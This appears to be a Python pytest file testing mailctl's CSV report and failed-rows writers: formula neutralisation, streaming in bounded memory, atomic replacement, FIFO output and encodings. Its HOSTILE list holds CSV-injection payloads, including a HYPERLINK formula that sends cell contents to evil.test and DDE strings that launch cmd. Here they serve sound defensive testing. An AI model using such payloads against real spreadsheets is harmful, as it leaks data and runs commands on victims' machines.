"""bulk-send's `--report` and `--failed-csv` (mailctl/store/reports.py).

The report: one line per row, every text cell a spreadsheet would read as a formula (OWASP
CSV Injection: = + - @ TAB CR first, also after blanks) neutralised by a leading apostrophe,
mailctl's own numbers left as numbers. The failed-rows CSV: the original rows, byte for byte
the same fields in the input's header order, dialect and encoding, so it reads back as the
rows it came from. Both streamed (bounded memory whatever the row count) and written by the
output-file rule: atomic for a regular file, in place for a FIFO or our own descriptor.
"""

from __future__ import annotations

import csv
import io
import os
import select
import stat
import threading
import time
import tracemalloc
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from mailctl.errors import CantCreateError, ExitCode
from mailctl.store.reports import REPORT_HEADER, neutralise, write_failed_csv, write_report


@dataclass(frozen=True)
class Record:
    """Shaped like the journal's RowRecord (the report's Protocol asks only for these)."""

    identity: str = "abc"
    line: int = 2
    state: str = "sent"
    recipient: str = "a@example.org"
    message_id: str = "<1.x@example.org>"
    attempts: int = 1
    code: int | None = 250
    enhanced: str | None = "2.0.0"
    text: str | None = "Ok: queued as 4Xyz"
    queue_id: str | None = "4Xyz"
    latency_ms: float | None = 1.25


def read_back(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",  # full-width equals sign
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_get_an_apostrophe(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["a@example.org", "2.0.0", "Ok: queued", "", "'=already", "x=1"])
def test_plain_cells_are_left_alone(cell: str) -> None:
    assert neutralise(cell) == cell


def test_report_neutralises_every_text_cell_and_keeps_numbers(tmp_path: Path) -> None:
    records = [
        Record(
            line=2 + i,
            recipient=cell,
            state="failed",
            code=550,
            enhanced="5.1.1",
            text=cell,
            message_id=cell,
            queue_id=cell,
            latency_ms=12.5,
        )
        for i, cell in enumerate(HOSTILE)
    ]
    report = tmp_path / "report.csv"
    assert write_report(report, records) == len(HOSTILE)
    rows = read_back(report)
    assert tuple(rows[0]) == REPORT_HEADER
    for row, cell in zip(rows[1:], HOSTILE, strict=True):
        got = dict(zip(REPORT_HEADER, row, strict=True))
        for column in ("recipient", "message_id", "queue_id"):
            assert got[column] == "'" + cell, column
        # the reply text is put on one line (whitespace runs -> one space), then neutralised
        assert got["text"].startswith("'"), got["text"]
        assert got["line"].isdigit() and got["code"] == "550" and got["attempts"] == "1"
        assert got["latency_ms"] == "12.500"
        assert got["status"] == "failed" and got["enhanced"] == "5.1.1"
    # no cell of any row starts (after blanks) with a formula character
    for row in rows[1:]:
        for cell in row:
            assert not cell.lstrip(" \t\r\n\u00a0").startswith(("=", "+", "-", "@")), row


def test_report_text_is_one_bounded_line(tmp_path: Path) -> None:
    text = "5.7.1 first line\nsecond line\r\n" + "x" * 100_000
    report = tmp_path / "report.csv"
    write_report(report, [Record(state="failed", code=554, text=text)])
    got = read_back(report)[1][REPORT_HEADER.index("text")]
    assert "\n" not in got and "\r" not in got
    assert got.startswith("5.7.1 first line second line ")
    assert len(got) <= 2003


def test_report_of_empty_values(tmp_path: Path) -> None:
    report = tmp_path / "report.csv"
    write_report(
        report,
        [
            Record(
                state="unknown",
                code=None,
                enhanced=None,
                text=None,
                queue_id=None,
                latency_ms=None,
                attempts=0,
            )
        ],
    )
    got = dict(zip(REPORT_HEADER, read_back(report)[1], strict=True))
    assert got == {
        "line": "2",
        "recipient": "a@example.org",
        "status": "unknown",
        "code": "",
        "enhanced": "",
        "text": "",
        "attempts": "0",
        "latency_ms": "",
        "message_id": "<1.x@example.org>",
        "queue_id": "",
    }


def test_report_is_streamed_in_bounded_memory(tmp_path: Path) -> None:
    """100,000 records from a generator: the writer holds a 64 KiB buffer, not the rows
    (held whole, the rows' cells alone would be tens of MB)."""

    def records() -> Iterator[Record]:
        for i in range(100_000):
            yield Record(line=i + 2, recipient=f"user{i}@example.org", text="Ok " * 20)

    report = tmp_path / "report.csv"
    tracemalloc.start()
    try:
        count = write_report(report, records())
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert count == 100_000
    assert peak < 2 * 2**20, f"peak {peak} bytes"
    assert report.stat().st_size > 10 * 2**20


def test_report_cut_short_leaves_the_old_file(tmp_path: Path) -> None:
    report = tmp_path / "report.csv"
    report.write_text("old report\n")

    def records() -> Iterator[Record]:
        for i in range(50_000):
            if i == 40_000:
                raise RuntimeError("journal went away")
            yield Record(line=i + 2)

    with pytest.raises(RuntimeError):
        write_report(report, records())
    assert report.read_text() == "old report\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.csv"]  # temp file removed


def test_report_is_0600_and_replaces_atomically(tmp_path: Path) -> None:
    report = tmp_path / "report.csv"
    report.write_text("old")
    os.chmod(report, 0o644)
    write_report(report, [Record()])
    assert stat.S_IMODE(report.stat().st_mode) == 0o600
    assert read_back(report)[1][1] == "a@example.org"


def test_report_to_a_fifo_with_a_reader(tmp_path: Path) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    # A reader that has the FIFO open before the write (non-blocking, polled, bounded).
    fd = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
    got = bytearray()
    done = threading.Event()

    def reader() -> None:
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            ready, _, _ = select.select([fd], [], [], 0.1)
            if not ready:
                continue
            try:
                chunk = os.read(fd, 65536)
            except BlockingIOError:
                continue
            if not chunk:
                done.set()
                return
            got.extend(chunk)

    thread = threading.Thread(target=reader, daemon=True)
    thread.start()
    try:
        write_report(fifo, [Record(recipient="=1+1")])
        thread.join(timeout=30)
    finally:
        os.close(fd)
    assert done.is_set()
    rows = list(csv.reader(io.StringIO(got.decode())))
    assert rows[1][1] == "'=1+1"
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)  # written through, never replaced


def test_report_to_a_fifo_nobody_reads_fails_at_once(tmp_path: Path) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    with pytest.raises(CantCreateError) as caught:
        write_report(fifo, [Record()])
    assert "nobody is reading" in caught.value.message


def test_report_to_a_directory_is_refused(tmp_path: Path) -> None:
    with pytest.raises(CantCreateError) as caught:
        write_report(tmp_path, [Record()])
    assert caught.value.exit_code == ExitCode.CANTCREAT
    assert "report" in caught.value.message


def test_report_to_our_own_descriptor(tmp_path: Path) -> None:
    """A path naming our own descriptor (/dev/fd/N) is written to that descriptor."""
    read_end, write_end = os.pipe()
    try:
        write_report(Path(f"/dev/fd/{write_end}"), [Record(recipient="@x")])
        os.close(write_end)
        write_end = -1
        data = b""
        while chunk := os.read(read_end, 65536):
            data += chunk
    finally:
        os.close(read_end)
        if write_end >= 0:
            os.close(write_end)
    assert list(csv.reader(io.StringIO(data.decode())))[1][1] == "'@x"


# -- the failed-rows CSV ---------------------------------------------------------------------

ORIGINAL = (
    "email;name;note\r\n"
    'a@example.org;"Smith; Ann";"=1+1"\r\n'
    'b@example.org;"Bob ""the"" Builder";"multi\r\nline"\r\n'
    "c@example.org;Ça va;-5\r\n"
)


def _rows(
    text: str, dialect: type[csv.Dialect] | csv.Dialect
) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(text, newline=""), dialect=dialect)
    return list(reader.fieldnames or []), list(reader)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "latin-1"])
def test_failed_csv_reads_back_as_the_rows_it_came_from(tmp_path: Path, encoding: str) -> None:
    dialect = csv.Sniffer().sniff(ORIGINAL.split("\r\n", 1)[0] + "\r\n" + ORIGINAL, ";,")
    header, rows = _rows(ORIGINAL, dialect)
    out = tmp_path / "failed.csv"
    assert write_failed_csv(out, header, dialect, iter(rows), encoding=encoding) == 3
    raw = out.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")  # no BOM, also for a utf-8-sig input
    text = raw.decode("latin-1" if encoding == "latin-1" else "utf-8")
    again_header, again = _rows(text, dialect)
    assert again_header == header
    assert again == rows  # formula-looking fields kept as given: this is mailctl's input
    assert again[0]["note"] == "=1+1" and again[2]["note"] == "-5"


def test_failed_csv_keeps_header_order_and_fills_missing_fields(tmp_path: Path) -> None:
    out = tmp_path / "failed.csv"
    write_failed_csv(
        out, ("b", "a", "c"), csv.excel, [{"a": "1", "b": "2"}, {"c": "3", "a": "x,y"}]
    )
    assert out.read_bytes() == b'b,a,c\r\n2,1,\r\n,"x,y",3\r\n'


def test_failed_csv_with_a_sniffed_dialect_that_cannot_escape_quotes(tmp_path: Path) -> None:
    """A sniffed dialect may have doublequote off and no escapechar: csv would refuse a
    field holding a quote; the writer falls back to doubling it, which reads back."""

    class NoEscape(csv.Dialect):
        delimiter = ","
        quotechar = '"'
        escapechar = None
        doublequote = False
        skipinitialspace = False
        lineterminator = "\r\n"
        quoting = csv.QUOTE_MINIMAL

    out = tmp_path / "failed.csv"
    write_failed_csv(out, ("email", "name"), NoEscape, [{"email": "a@x", "name": 'say "hi"'}])
    with out.open(newline="") as handle:
        assert list(csv.DictReader(handle)) == [{"email": "a@x", "name": 'say "hi"'}]


def test_failed_csv_a_field_the_encoding_cannot_hold(tmp_path: Path) -> None:
    out = tmp_path / "failed.csv"
    out.write_text("old")
    with pytest.raises(CantCreateError) as caught:
        write_failed_csv(out, ("email",), csv.excel, [{"email": "ж@x"}], encoding="ascii")
    assert "ascii" in caught.value.message
    assert out.read_text() == "old"
